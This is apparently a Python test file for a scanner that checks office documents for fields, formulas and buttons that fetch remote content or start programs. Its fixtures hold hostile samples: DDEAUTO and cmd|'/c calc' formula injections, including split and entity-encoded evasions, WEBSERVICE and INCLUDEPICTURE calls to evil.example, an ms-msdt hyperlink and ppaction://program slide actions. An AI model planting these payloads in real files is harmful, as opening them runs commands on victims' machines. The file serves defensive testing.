"""Fields, formulas and buttons of office files: what fetches or starts something is refused."""

import pytest

from tests.survey.evidence.judge.outcomes import outcome
from tests.survey.evidence.judge.packages import (
    SHEETS,
    make_office,
    make_sheet,
    make_slide,
    make_text,
)


def _field(*orders: str) -> str:
    """A field whose order is cut into pieces, as Word does after corrections."""
    pieces = "".join(
        f"<w:r><w:instrText>{order}</w:instrText></w:r>" for order in orders
    )
    begin, end = (
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:fldChar w:fldCharType="end"/>',
    )
    return f"<w:p>{begin}{pieces}{end}</w:p>"


TAKEN = {
    "words about exchanges": (
        make_text("<w:t>DDEAUTO cmd.exe</w:t>" + _field(" PAGE ")),
        "docx",
    ),
    "a link called DDE": (
        make_text(_field('HYPERLINK "https://a.example/DDE"')),
        "docx",
    ),
    "a picture from the writer's disk": (
        make_text(_field('INCLUDEPICTURE "C:\\\\a.png"')),
        "docx",
    ),
    "a formula with a bar in its text": (
        make_sheet("<f>CONCATENATE(A1,&quot;|&quot;,A2)</f>"),
        "xlsx",
    ),
    "a query that waits": (
        make_office(
            SHEETS,
            "xl/workbook.xml",
            {"xl/connections.xml": '<connections><connection id="1"/></connections>'},
        ),
        "xlsx",
    ),
    "a link in a formula": (
        make_sheet("<f>HYPERLINK(&quot;https://a.example&quot;,A1)</f>"),
        "xlsx",
    ),
    "a button without a program": (
        make_office(
            parts={
                "customUI/customUI.xml": "<customUI><button onAction='Print'/></customUI>"
            }
        ),
        "docx",
    ),
    "a slide that jumps": (
        make_slide('<a:hlinkClick action="ppaction://hlinksldjump"/>'),
        "pptx",
    ),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_only_works_something_out_is_taken(what):
    content, kind = TAKEN[what]
    assert outcome(content) == kind


REACHES_OUT = {
    "an exchange": make_text(_field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "an exchange in pieces": make_text(_field(" D", "DE", "AUTO cmd")),
    "an exchange in letters as numbers": make_text(_field("&#68;&#x44;E cmd")),
    "an exchange in a simple field": make_text('<w:fldSimple w:instr=" DDE cmd a "/>'),
    "an exchange with another prefix": make_text(
        '<x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/main" x:instr="DDE cmd"/>'
    ),
    "an exchange inside a field": make_text(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>IF 1=1 </w:instrText>'
        + _field("DDEAUTO cmd")
        + '<w:fldChar w:fldCharType="end"/>'
    ),
    "an exchange spelled by a field": make_text(
        '<w:fldChar w:fldCharType="begin"/>'
        + _field("QUOTE 68 68 69")
        + '<w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
    ),
    "an exchange without an end": make_text(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>'
    ),
    "an exchange in a head of a page": make_office(
        parts={"word/header1.xml": "<h>" + _field("DDE cmd").replace("w:", "") + "</h>"}
    ),
    "a picture by a field": make_text(
        _field('INCLUDEPICTURE "https://evil.example/a"')
    ),
    "a text by a field": make_text(_field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')),
    "an exchange of a workbook": make_office(
        SHEETS,
        "xl/workbook.xml",
        {
            "xl/externalLinks/link1.xml": '<l xmlns:x="y"><x:ddeLink ddeService="cmd"/></l>'
        },
    ),
    "an exchange in a formula": make_sheet("<f>cmd|&apos;/c calc&apos;!A0</f>"),
    "an exchange in a quoted formula": make_sheet(
        "<f><![CDATA[cmd|'/c calc'!A0]]></f>"
    ),
    "an exchange under a name": make_office(
        SHEETS,
        "xl/workbook.xml",
        {"xl/workbook.xml": "<w><definedName name='a'>cmd|'/c x'!A0</definedName></w>"},
    ),
    "a page by a formula": make_sheet(
        "<f>WEBSERVICE(&quot;http://evil.example&quot;)</f>"
    ),
    "a picture by a formula": make_sheet('<f t="array">_xlfn.IMAGE(A1)</f>'),
    "an exchange in words deleted with corrections kept": make_text(
        _field("DDEAUTO cmd").replace("instrText", "delInstrText")
    ),
    "a button worked by another file": make_office(
        parts={"customUI/customUI.xml": "<customUI onLoad='http://evil.example/a!b'/>"}
    ),
    "a picture of the old kind": make_office(
        parts={"word/drawing.vml": "<v:imagedata xmlns:v='v' src='//evil/a.png'/>"}
    ),
    "a query every minute": make_office(
        SHEETS,
        "xl/workbook.xml",
        {"xl/connections.xml": '<all><connection id="1" interval="1"/></all>'},
    ),
    "a query that does not wait": make_office(
        SHEETS,
        "xl/workbook.xml",
        {"xl/connections.xml": '<all><connection id="1" refreshOnLoad="1"/></all>'},
    ),
}


@pytest.mark.parametrize("what", REACHES_OUT)
def test_what_fetches_something_is_refused(what):
    assert outcome(REACHES_OUT[what]) == "file_reaches_out"


ACTIVE = {
    "a link by a field": make_text(_field('HYPERLINK "java', 'script:a"')),
    "a link by a formula": make_sheet("<f>HYPERLINK(&quot;ms-msdt:/id&quot;)</f>"),
    "a slide that starts a program": make_slide(
        '<a:hlinkClick action="ppaction&#58;//program"/>'
    ),
    "a slide that starts it by touch": make_slide(
        '<a:hlinkHover action="ppaction://program"/>'
    ),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_a_button_that_starts_a_program_is_refused(what):
    assert outcome(ACTIVE[what]) == "file_active"
